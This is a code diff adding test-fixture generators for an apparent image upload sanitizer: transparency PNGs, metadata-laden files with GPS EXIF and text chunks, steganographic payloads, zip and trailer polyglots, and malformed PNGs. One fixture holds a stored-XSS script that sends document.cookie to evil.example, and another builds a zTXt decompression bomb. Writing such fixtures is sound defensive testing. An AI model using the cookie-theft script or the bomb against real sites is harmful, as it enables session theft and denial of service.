@@ -144,6 +144,14 @@ def grey_alpha_png(*, translucent: bool) -> bytes:
     return encode(image, "PNG")
 
 
+def colour_key_png(mode: str = "RGB") -> bytes:
+    """An RGB or grey PNG whose tRNS chunk makes one colour transparent: the left half."""
+    image = Image.new(mode, (32, 32), "red" if mode == "RGB" else 200)
+    key = (0, 255, 0) if mode == "RGB" else 0
+    image.paste(key, (0, 0, 16, 32))
+    return encode(image, "PNG", transparency=key)
+
+
 def transparent_gif() -> bytes:
     """A GIF whose left half is the transparent colour."""
     image = Image.new("P", (32, 32), 1)
@@ -174,6 +182,30 @@ def svg_document() -> bytes:
     )
 
 
+def pdf_header() -> bytes:
+    """Only the start of a PDF: the header line and a first object, no image anywhere."""
+    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
+
+
+def html_document() -> bytes:
+    """An HTML page with a script, as someone testing for stored XSS would upload it."""
+    return (
+        b"<!DOCTYPE html>\n<html><head><title>hi</title></head><body>"
+        b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
+        + SECRET
+        + b"</body></html>\n"
+    )
+
+
+def text_file() -> bytes:
+    return b"Steps: 20, Sampler: Euler a, CFG scale: 7, " + SECRET + b"\nnot an image at all\n"
+
+
+def zip_archive() -> bytes:
+    """A ZIP archive alone (see with_zip_appended for one hidden behind an image)."""
+    return with_zip_appended(b"")
+
+
 # ---------------------------------------------------------------- metadata-laden files
 
 
@@ -200,6 +232,49 @@ def png_with_text_chunks(size: tuple[int, int] = (64, 48)) -> bytes:
         dpi=(300, 300),
     )
     return insert_png_chunk(png, b"caBX", _jumbf_c2pa_box())
+
+
+TEXT_CHUNK_KINDS: Final = (b"tEXt", b"zTXt", b"iTXt")
+
+
+def png_with_text(keyword: str, kind: bytes = b"tEXt", size: tuple[int, int] = (64, 48)) -> bytes:
+    """A PNG with one text chunk, written as tEXt, zTXt (value compressed) or iTXt.
+
+    The value carries SECRET; with zTXt only the keyword is readable in the raw bytes.
+    """
+    value = f"{keyword} of a red fox, Steps: 20, Seed: 42, {_SECRET_TEXT}"
+    info = PngImagePlugin.PngInfo()
+    if kind == b"tEXt":
+        info.add_text(keyword, value)
+    elif kind == b"zTXt":
+        info.add_text(keyword, value, zip=True)
+    elif kind == b"iTXt":
+        info.add_itxt(keyword, value, lang="en", tkey=keyword)
+    else:
+        raise ValueError(f"not a PNG text chunk type: {kind!r}")
+    return encode(gradient(size), "PNG", pnginfo=info)
+
+
+def png_with_exif_chunk() -> bytes:
+    """A PNG whose eXIf chunk holds a camera make, a description and a GPS position."""
+    return encode(gradient(), "PNG", exif=_exif_with_gps(orientation=1))
+
+
+def png_with_cabx_chunk() -> bytes:
+    """A PNG carrying a C2PA manifest in a caBX chunk (JUMBF boxes), as signing tools add it."""
+    return insert_png_chunk(plain_png(), b"caBX", _jumbf_c2pa_box())
+
+
+def png_with_text_bomb(expanded_bytes: int = 64 * 1024 * 1024) -> bytes:
+    """A small PNG whose zTXt Comment inflates to expanded_bytes (a bomb aimed at the parser)."""
+    bomb = zlib.compress(b"\x00" * expanded_bytes, 9)
+    return insert_png_chunk(plain_png(), b"zTXt", b"Comment\x00\x00" + bomb)
+
+
+def gif_with_comment() -> bytes:
+    """A GIF with a comment extension block carrying SECRET."""
+    image = gradient().convert("P", palette=Image.Palette.ADAPTIVE, colors=64)
+    return encode(image, "GIF", comment=SECRET + b" comment")
 
 
 def jpeg_with_metadata(orientation: int = 1, size: tuple[int, int] = (64, 48)) -> bytes:
@@ -289,6 +364,12 @@ def png_with_rgb_stealth(payload: bytes, *, gzipped: bool = False) -> bytes:
             channels[band] = (channels[band] & 0xFE) | bit
         pixels[x, y] = tuple(channels)
     return encode(image, "PNG")
+
+
+def webp_with_rgb_stealth(payload: bytes, *, gzipped: bool = False) -> bytes:
+    """The RGB stealth layout in a lossless WebP without alpha, which keeps every colour bit."""
+    image = Image.open(io.BytesIO(png_with_rgb_stealth(payload, gzipped=gzipped)))
+    return encode(image, "WEBP", lossless=True, exact=True)
 
 
 def read_stealth_payload(data: bytes) -> bytes | None:
@@ -441,6 +522,21 @@ def with_zip_appended(data: bytes) -> bytes:
     with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_STORED) as zipped:
         zipped.writestr("payload.txt", SECRET + b" smuggled in a zip")
     return data + archive.getvalue()
+
+
+def with_trailer(data: bytes, trailer: bytes) -> bytes:
+    """Any file with arbitrary bytes after its end (an HTML or script polyglot, say)."""
+    return data + trailer
+
+
+def palette_png_without_palette(*, palette_after_data: bool) -> bytes:
+    """A palette PNG whose PLTE is missing, or moved after IDAT: both invalid, both seen."""
+    chunks = png_chunks(palette_png(transparent=False))
+    palette = dict(chunks)[b"PLTE"]
+    kept = [png_chunk(kind, payload) for kind, payload in chunks if kind not in (b"PLTE", b"IEND")]
+    if palette_after_data:
+        kept.append(png_chunk(b"PLTE", palette))
+    return PNG_SIGNATURE + b"".join(kept) + png_chunk(b"IEND", b"")
 
 
 def png_that_is_really_a_jpeg() -> bytes:
